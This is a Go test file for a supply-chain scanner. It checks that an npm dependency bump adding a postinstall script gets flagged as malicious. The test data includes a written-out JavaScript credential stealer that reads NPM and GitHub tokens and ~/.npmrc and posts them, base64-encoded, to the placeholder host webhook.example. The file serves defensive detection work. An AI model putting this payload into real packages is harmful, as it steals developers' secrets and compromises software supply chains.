package scan_test

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"customs/internal/finding"
	"customs/internal/registry"
	"customs/internal/registry/registrytest"
	"customs/internal/scan"
)

// git runs one git command in dir, without the user's or system's config.
func git(t *testing.T, dir string, args ...string) {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@example.com", "GIT_COMMITTER_NAME=t",
		"GIT_COMMITTER_EMAIL=t@example.com", "GIT_CONFIG_GLOBAL="+os.DevNull, "GIT_CONFIG_NOSYSTEM=1")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("git %v: %v\n%s", args, err, out)
	}
}

// npmPackage is a tarball of a small npm package; extra entries are added
// to package.json (after "main") and files to the package.
func npmPackage(t *testing.T, name, version, extra string, files map[string]string) []byte {
	all := map[string]string{
		"package/package.json": `{"name":"` + name + `","version":"` + version + `","main":"index.js"` + extra + `}`,
		"package/index.js":     "module.exports = (a, b) => a + b;\n",
	}
	for p, body := range files {
		all["package/"+p] = body
	}
	return tgz(all)
}

// stealer is an inert imitation of an install-time token stealer: test data
// only, never run; the endpoint is a reserved example domain.
const stealer = `const fs = require('fs');
const os = require('os');
const https = require('https');
const secrets = {npm: process.env.NPM_TOKEN, github: process.env.GITHUB_TOKEN, npmrc: fs.readFileSync(os.homedir() + '/.npmrc', 'utf8')};
const req = https.request({ hostname: 'webhook.example', path: '/collect', method: 'POST' });
req.write(Buffer.from(JSON.stringify(secrets)).toString('base64'));
req.end();
`

// TestBaseChecksOnlyWhatChangedAndDiffsEachBump is the pull-request check:
// the lockfile at HEAD against the working tree. The bump that adds an
// install-time stealer is malicious through the diff against its old
// version; an ordinary bump is clean; an unchanged dependency is not
// checked; a bump whose old version the registry lacks is a note.
func TestBaseChecksOnlyWhatChangedAndDiffsEachBump(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
	srv := registrytest.New(t)
	long := registrytest.Now.AddDate(-1, 0, 0)
	publish := func(name string, versions map[string][]byte) {
		times := map[string]time.Time{}
		for v, body := range versions {
			times[v] = long
			srv.Set("/npm/"+name+"/-/"+name+"-"+v+".tgz", body)
		}
		srv.Set(registrytest.NPMPath(name), registrytest.NPMDocument(srv, name, times))
	}
	publish("tiny", map[string][]byte{
		"1.0.0": npmPackage(t, "tiny", "1.0.0", "", nil),
		"1.0.1": npmPackage(t, "tiny", "1.0.1", `,"scripts":{"postinstall":"node setup.js"}`, map[string]string{"setup.js": stealer}),
	})
	publish("steady", map[string][]byte{
		"2.0.0": npmPackage(t, "steady", "2.0.0", "", nil),
		"2.0.1": npmPackage(t, "steady", "2.0.1", "", nil),
	})
	publish("lost", map[string][]byte{"3.0.1": npmPackage(t, "lost", "3.0.1", "", nil)})
	publish("same", map[string][]byte{"1.0.0": npmPackage(t, "same", "1.0.0", "", nil)})

	dir := project(t, map[string]string{"package-lock.json": npmLock("tiny@1.0.0", "steady@2.0.0", "lost@3.0.0", "same@1.0.0")})
	git(t, dir, "init", "-q")
	git(t, dir, "add", ".")
	git(t, dir, "commit", "-q", "-m", "base")
	lock := npmLock("tiny@1.0.1", "steady@2.0.1", "lost@3.0.1", "same@1.0.0")
	if err := os.WriteFile(filepath.Join(dir, "package-lock.json"), []byte(lock), 0o644); err != nil {
		t.Fatal(err)
	}

	client := registry.New(registry.Options{Endpoints: srv.Endpoints(), CacheDir: t.TempDir()})
	opts := scan.Options{Root: dir, Base: "HEAD", Registry: client, Now: registrytest.Now}
	r, err := scan.Run(context.Background(), opts)
	if err != nil {
		t.Fatal(err)
	}
	if r.Base != "HEAD" || len(r.Packages) != 3 || r.Summary.Unchanged != 1 {
		t.Fatalf("base %q, %d packages (%+v), %d unchanged: want HEAD, tiny, steady and lost, same unchanged", r.Base, len(r.Packages), r.Packages, r.Summary.Unchanged)
	}
	tiny := find(t, r, "tiny", "1.0.1")
	if tiny.OldVersion != "1.0.0" || tiny.Verdict != finding.Malicious || !tiny.Fails ||
		len(tiny.Findings) == 0 || !strings.HasPrefix(tiny.Findings[0].Message, "update 1.0.0 → 1.0.1 is malicious: ") || tiny.Findings[0].File != "package-lock.json" {
		t.Errorf("tiny 1.0.0 → 1.0.1 adds an install-time stealer: %s (old %q) %+v", tiny.Verdict, tiny.OldVersion, tiny.Findings)
	}
	if p := find(t, r, "steady", "2.0.1"); p.OldVersion != "2.0.0" || p.Verdict != finding.Clean || len(p.Findings) != 0 {
		t.Errorf("steady 2.0.0 → 2.0.1 changes nothing: %s (old %q) %+v", p.Verdict, p.OldVersion, p.Findings)
	}
	notes := strings.Join(r.Notes, "\n")
	if !strings.Contains(notes, "could not diff lost 3.0.1 against 3.0.0") || !strings.Contains(notes, "only the 3 added or changed dependencies of 4 were checked against HEAD") {
		t.Errorf("notes %q: want the failed diff of lost and the counts", notes)
	}

	// The policy applies to what the diff found: ignoring its rules for
	// tiny leaves it clean, with the findings listed as ignored.
	for _, f := range tiny.Findings {
		opts.Policy.Ignores = append(opts.Policy.Ignores, scan.Ignore{ID: f.Rule, Package: "tiny", Reason: "reviewed", Expires: registrytest.Now.AddDate(0, 1, 0)})
	}
	r, err = scan.Run(context.Background(), opts)
	if err != nil {
		t.Fatal(err)
	}
	if p := find(t, r, "tiny", "1.0.1"); p.Verdict != finding.Clean || len(p.Ignored) != len(tiny.Findings) {
		t.Errorf("ignored diff findings: %s, %d ignored, want clean with %d", p.Verdict, len(p.Ignored), len(tiny.Findings))
	}

	// Offline the bumps are still listed, not diffed, and a note says so.
	r, err = scan.Run(context.Background(), scan.Options{Root: dir, Base: "HEAD"})
	if err != nil {
		t.Fatal(err)
	}
	if p := find(t, r, "tiny", "1.0.1"); p.Verdict != finding.Clean || !strings.Contains(strings.Join(r.Notes, "\n"), "offline: the 3 changed dependencies were not diffed") {
		t.Errorf("offline: tiny %s, notes %q", p.Verdict, r.Notes)
	}

	// A ref that is not a commit is an error, not an empty scan.
	if _, err := scan.Run(context.Background(), scan.Options{Root: dir, Base: "no-such-ref"}); err == nil || !strings.Contains(err.Error(), "no-such-ref is not a commit") {
		t.Errorf("bad ref: %v", err)
	}
}
